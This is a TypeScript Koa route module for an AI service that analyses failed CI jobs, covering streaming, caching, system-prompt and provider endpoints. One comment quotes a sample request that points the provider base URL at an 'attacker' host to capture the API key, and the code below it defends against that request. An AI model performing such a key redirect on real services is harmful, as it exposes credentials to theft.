import { PassThrough } from 'node:stream';
import type { Context } from 'koa';
import { z } from 'zod';
import { AppError } from '../platform/errors.ts';
import { errorBody, STATUS_BY_CODE } from '../http/error-middleware.ts';
import type { RouteModule } from '../http/app.ts';
import { describedRoutes, type RouteDoc } from '../http/openapi.ts';
import { readJsonBody } from '../http/body.ts';
import { idBodySchema, idParamSchema, parseInput } from '../http/validation.ts';
import { DEFAULTS, normaliseBaseUrl, PROVIDER_NAMES } from './config.ts';
import type { AiService } from './ai-service.ts';

/** Longest follow-up question accepted (characters). */
export const MAX_QUESTION_CHARS = 4000;

const nameSchema = z.string({ error: 'must be a string' }).max(500, { error: 'is too long' });
const jobSchema = z.object({
  projectId: idBodySchema,
  pipelineId: idBodySchema,
  jobId: idBodySchema,
  jobName: nameSchema.optional(),
  stage: nameSchema.optional(),
  log: z.string({ error: 'must be a string' }).optional(),
  stream: z.boolean({ error: 'must be true or false' }).optional(),
});
const analyseSchema = jobSchema.extend({
  force: z.boolean({ error: 'must be true or false' }).optional(),
});
const followupSchema = jobSchema.extend({
  question: z
    .string({ error: 'is required' })
    .trim()
    .min(1, { error: 'must not be empty' })
    .max(MAX_QUESTION_CHARS, { error: `must be at most ${MAX_QUESTION_CHARS} characters` }),
  previousAnalysis: z
    .string({ error: 'must be a string' })
    .max(200_000, { error: 'is too long' })
    .optional(),
});
const pipelineSchema = z.object({
  projectId: idBodySchema,
  pipelineId: idBodySchema,
  force: z.boolean({ error: 'must be true or false' }).optional(),
  stream: z.boolean({ error: 'must be true or false' }).optional(),
});
const projectQuerySchema = z.object({ projectId: idParamSchema });
const cacheQuerySchema = z.object({ projectId: idParamSchema, jobId: idParamSchema });
// Integers only; below 1 is a 400 (DESIGN §3.1); a pageSize above 100 is clamped by the service.
const pageParam = (what: string) =>
  z
    .string()
    .regex(/^-?\d{1,9}$/, { error: `must be an integer` })
    .transform(Number)
    .refine((n) => n >= 1, { error: 'must be 1 or more' })
    .optional()
    .describe(what);
const historyQuerySchema = z.object({
  page: pageParam('page'),
  pageSize: pageParam('pageSize'),
});
const promptSchema = z.object({
  prompt: z.string({
    error: (issue) => (issue.input === undefined ? 'is required' : 'must be a string'),
  }),
});
const providerSchema = z.object({
  provider: z
    .enum(PROVIDER_NAMES, { error: `must be one of ${PROVIDER_NAMES.join(', ')}` })
    .optional(),
  model: z.string({ error: 'must be a string' }).max(200, { error: 'is too long' }).optional(),
  baseUrl: z.string({ error: 'must be a string' }).max(2000, { error: 'is too long' }).optional(),
  apiKey: z
    .string({ error: 'must be a string or null' })
    .max(4096, { error: 'is too long' })
    .nullable()
    .optional(),
});

const STREAMED = ['application/json', 'text/event-stream'] as const;
const ROUTE_DOCS: readonly RouteDoc[] = [
  {
    method: 'post',
    path: '/ai/analyse',
    tag: 'AI analysis',
    summary: 'Analyses a failed job (cached; `force` re-analyses, `stream` answers as SSE)',
    docs: 'post-apiaianalyse',
    body: analyseSchema,
    response: { description: '`{analysis, cached, timestamp}`.', contentTypes: STREAMED },
  },
  {
    method: 'post',
    path: '/ai/followup',
    tag: 'AI analysis',
    summary: 'Answers a follow-up question about an analysed job',
    docs: 'post-apiaifollowup',
    body: followupSchema,
    response: { description: '`{answer, timestamp}`.', contentTypes: STREAMED },
  },
  {
    method: 'post',
    path: '/ai/analyse-pipeline',
    tag: 'AI analysis',
    summary: 'Analyses every failed job of a pipeline in one answer, duplicate errors merged',
    docs: 'post-apiaianalyse-pipeline',
    additive: true,
    body: pipelineSchema,
    response: { description: '`{analysis, cached, timestamp, jobs}`.', contentTypes: STREAMED },
  },
  {
    method: 'get',
    path: '/ai/analyzed',
    tag: 'AI analysis',
    summary: "A project's jobs that have a cached analysis",
    docs: 'get-apiaianalyzed',
    query: projectQuerySchema,
    response: { description: '`{projectId, analyzedJobIds}`.' },
  },
  {
    method: 'get',
    path: '/ai/cache',
    tag: 'AI analysis',
    summary: "A job's cached analysis and its conversation",
    docs: 'get-apiaicache',
    query: cacheQuerySchema,
    response: { description: 'The cached analysis.' },
  },
  {
    method: 'delete',
    path: '/ai/cache',
    tag: 'AI analysis',
    summary: "Deletes a job's cached analysis and conversation",
    docs: 'delete-apiaicache',
    query: cacheQuerySchema,
    response: { description: '`{success, message}`.' },
  },
  {
    method: 'get',
    path: '/ai/history',
    tag: 'AI analysis',
    summary: 'Stored analyses, newest first, paged',
    docs: 'get-apiaihistory',
    query: historyQuerySchema,
    response: { description: '`{analyses, pagination}`.' },
  },
  {
    method: 'get',
    path: '/ai/system-prompt',
    tag: 'AI analysis',
    summary: 'The system prompt sent to a configured model',
    docs: 'get-apiaisystem-prompt',
    response: { description: '`{prompt, isDefault}`.' },
  },
  {
    method: 'put',
    path: '/ai/system-prompt',
    tag: 'AI analysis',
    summary: 'Replaces the system prompt',
    docs: 'put-apiaisystem-prompt',
    body: promptSchema,
    response: { description: '`{success, prompt}`.' },
  },
  {
    method: 'delete',
    path: '/ai/system-prompt',
    tag: 'AI analysis',
    summary: 'Resets the system prompt to the default',
    docs: 'delete-apiaisystem-prompt',
    additive: true,
    response: { description: '`{success, prompt}`.' },
  },
  {
    method: 'get',
    path: '/ai/provider',
    tag: 'AI analysis',
    summary: 'The AI provider in use, its model and base URL, and whether a key is set',
    docs: 'get-apiaiprovider',
    additive: true,
    response: { description: 'The provider status (never the key).' },
  },
  {
    method: 'put',
    path: '/ai/provider',
    tag: 'AI analysis',
    summary: 'Changes the provider, model, base URL or key (a moved endpoint drops the stored key)',
    docs: 'put-apiaiprovider',
    additive: true,
    body: providerSchema,
    response: { description: 'The provider status after the change.' },
  },
];

type StreamEvent =
  | { type: 'delta'; text: string }
  | { type: 'done'; result: object }
  | { type: 'error'; error: unknown };

/**
 * Answers as Server-Sent Events: `delta` events with pieces of text, then one `done` event with
 * the whole response (authoritative: it replaces what was streamed), or an `error` event in the
 * error shape. Errors that happen before any text (bad input, unknown job) are ordinary HTTP
 * errors, because the stream only starts with the first piece of text.
 */
async function respondStreaming(
  ctx: Context,
  run: (onDelta: (text: string) => void) => Promise<object>,
): Promise<void> {
  const queue: StreamEvent[] = [];
  let wake: (() => void) | undefined;
  const push = (e: StreamEvent) => {
    queue.push(e);
    wake?.();
  };
  run((text) => push({ type: 'delta', text })).then(
    (result) => push({ type: 'done', result }),
    (error: unknown) => push({ type: 'error', error }),
  );
  const next = async (): Promise<StreamEvent> => {
    while (queue.length === 0) await new Promise<void>((resolve) => (wake = resolve));
    return queue.shift()!;
  };
  const first = await next();
  if (first.type === 'error') throw first.error;

  const stream = new PassThrough();
  ctx.req.socket.setTimeout(0);
  ctx.set('Cache-Control', 'no-cache');
  ctx.set('Connection', 'keep-alive');
  ctx.set('X-Accel-Buffering', 'no');
  ctx.type = 'text/event-stream';
  ctx.status = 200;
  ctx.body = stream;
  const write = (event: string, data: unknown) => {
    if (!stream.destroyed && !stream.writableEnded) {
      stream.write(`event: ${event}\ndata: ${JSON.stringify(data)}\n\n`);
    }
  };
  const emit = (e: StreamEvent): boolean => {
    if (e.type === 'delta') {
      write('delta', { text: e.text });
      return false;
    }
    if (e.type === 'done') {
      write('done', e.result);
    } else {
      const err = e.error;
      const status = err instanceof AppError ? STATUS_BY_CODE[err.code] : 500;
      const message = err instanceof AppError ? err.message : 'Internal server error';
      if (!(err instanceof AppError)) ctx.app.emit('error', err, ctx);
      write('error', errorBody(status, message));
    }
    stream.end();
    return true;
  };
  if (emit(first)) return;
  void (async () => {
    for (;;) if (emit(await next())) return;
  })();
}

/** The seed AI routes (docs/api.md) plus streaming, pipeline analysis, prompt reset, provider. */
export function aiRoutes(service: AiService): RouteModule {
  return describedRoutes(ROUTE_DOCS, (router) => {
    router.post('/ai/analyse', async (ctx) => {
      const input = parseInput(analyseSchema, await readJsonBody(ctx));
      if (input.stream)
        return respondStreaming(ctx, (onDelta) => service.analyse(input, { onDelta }));
      ctx.body = await service.analyse(input);
    });

    router.post('/ai/followup', async (ctx) => {
      const input = parseInput(followupSchema, await readJsonBody(ctx));
      if (input.stream)
        return respondStreaming(ctx, (onDelta) => service.followup(input, { onDelta }));
      ctx.body = await service.followup(input);
    });

    router.post('/ai/analyse-pipeline', async (ctx) => {
      const input = parseInput(pipelineSchema, await readJsonBody(ctx));
      if (input.stream) {
        return respondStreaming(ctx, (onDelta) => service.analysePipeline(input, { onDelta }));
      }
      ctx.body = await service.analysePipeline(input);
    });

    router.get('/ai/analyzed', (ctx) => {
      const { projectId } = parseInput(projectQuerySchema, ctx.query, 'query');
      ctx.body = service.analyzed(projectId);
    });

    router.get('/ai/cache', (ctx) => {
      const { projectId, jobId } = parseInput(cacheQuerySchema, ctx.query, 'query');
      ctx.body = service.getCached(projectId, jobId);
    });

    router.delete('/ai/cache', (ctx) => {
      const { projectId, jobId } = parseInput(cacheQuerySchema, ctx.query, 'query');
      ctx.body = service.deleteCached(projectId, jobId);
    });

    router.get('/ai/history', (ctx) => {
      const q = parseInput(historyQuerySchema, ctx.query, 'query');
      ctx.body = service.history(q.page ?? 1, q.pageSize ?? 20);
    });

    router.get('/ai/system-prompt', (ctx) => {
      ctx.body = service.getSystemPrompt();
    });

    router.put('/ai/system-prompt', async (ctx) => {
      const { prompt } = parseInput(promptSchema, await readJsonBody(ctx));
      ctx.body = service.setSystemPrompt(prompt);
    });

    router.delete('/ai/system-prompt', (ctx) => {
      ctx.body = service.resetSystemPrompt();
    });

    router.get('/ai/provider', async (ctx) => {
      ctx.body = await service.providerStatus();
    });

    router.put('/ai/provider', async (ctx) => {
      const update = parseInput(providerSchema, await readJsonBody(ctx, 64 * 1024));
      ctx.body = await service.updateProvider(await withoutRedirectedKey(service, update));
    });
  });
}

/**
 * A stored key belongs to the endpoint it was given for: moving the provider or its base URL
 * without sending a key drops the stored one, so `PUT {"baseUrl": "http://attacker/v1"}` can never
 * make the next analysis send `Authorization: Bearer <key>` elsewhere (issue 9, item 1).
 */
async function withoutRedirectedKey(
  service: AiService,
  update: z.output<typeof providerSchema>,
): Promise<z.output<typeof providerSchema>> {
  if (update.apiKey !== undefined) return update;
  const current = await service.providerStatus();
  const provider = update.provider ?? current.provider;
  if (provider === 'offline') return update;
  const providerMoved = provider !== current.provider;
  const baseUrl =
    update.baseUrl === undefined
      ? undefined
      : update.baseUrl.trim() === ''
        ? DEFAULTS[provider].baseUrl
        : normaliseBaseUrl(update.baseUrl);
  const urlMoved = baseUrl !== undefined && baseUrl !== current.baseUrl;
  return providerMoved || urlMoved ? { ...update, apiKey: null } : update;
}
